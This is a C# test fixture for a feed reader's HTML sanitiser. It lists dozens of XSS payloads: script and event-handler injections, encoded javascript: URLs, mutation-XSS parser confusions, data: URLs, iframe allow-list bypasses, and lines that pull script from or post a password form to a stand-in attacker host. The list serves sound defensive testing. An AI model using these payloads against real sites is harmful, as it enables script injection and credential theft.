namespace FeedHub.Tests.Support;

/// <summary>
/// The XSS vectors of the security suite: script, event handlers, script URLs, active elements, CSS expressions and
/// parser confusions, as feeds and pages carry them. The sanitiser's tests, the ways-in corpus and the Chromium run share them.
/// </summary>
public static class XssVectors
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"java&#x09;script:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<div style=\"width: expression(alert(1))\">css</div>",
        "<div style=\"background:url(javascript:alert(1))\">css</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<img srcset=\"https://ok.example/a.jpg 1x, javascript:alert(1) 2x\">",
        "<a href=\"https://ok.example/\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
        // OWASP's filter evasion cheat sheet: javascript: behind character references, white space, control characters and case.
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">click</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">click</a>",
        "<a href=\"javascript&colon;alert(1)\">click</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">click</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">click</a>",
        "<a href=\"jav\tascript:alert(1)\">click</a>",
        "<a href=\" &#14;  javascript:alert(1)\">click</a>",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<IMG SRC=`javascript:alert(1)`>",
        // srcset and picture sources.
        "<picture><source srcset=\"javascript:alert(1)\"><img src=\"https://ok.example/a.jpg\"></picture>",
        "<img srcset=\"https://ok.example/a.jpg 1x,javascript:alert(1) 2x\">",
        "<img srcset=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== 1x\">",
        // SVG and MathML namespace confusion: markup that one parse reads as foreign content and the next as HTML.
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
        "<math href=\"javascript:alert(1)\">click</math>",
        // noscript and template: content that parsers read differently with and without scripting, or not as part of the document.
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<noscript><a title=\"</noscript><iframe src=javascript:alert(1)>\"></a></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript></template>",
        "<noscript><template><img src=x onerror=alert(1)></template></noscript>",
        // Attributes without quotes, and malformed tags.
        "<a href=javascript:alert(1)>click</a>",
        "<a/href=javascript&colon;alert(1)>click</a>",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<img src=x onerror=alert(1)//",
        // data: URLs other than raster images.
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
        "<video poster=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"></video>",
        // Iframes whose address only looks like an allowed player's.
        "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
        "<iframe src=\"https://evilyoutube.com/embed/x\"></iframe>",
        "<iframe src=\"https://www.youtube.com@evil.example/embed/x\"></iframe>",
        "<iframe src=\"https://evil.example/embed?u=https://www.youtube.com/\"></iframe>",
        "<iframe src=\"//evil.example/embed/x\"></iframe>",
    ];
}
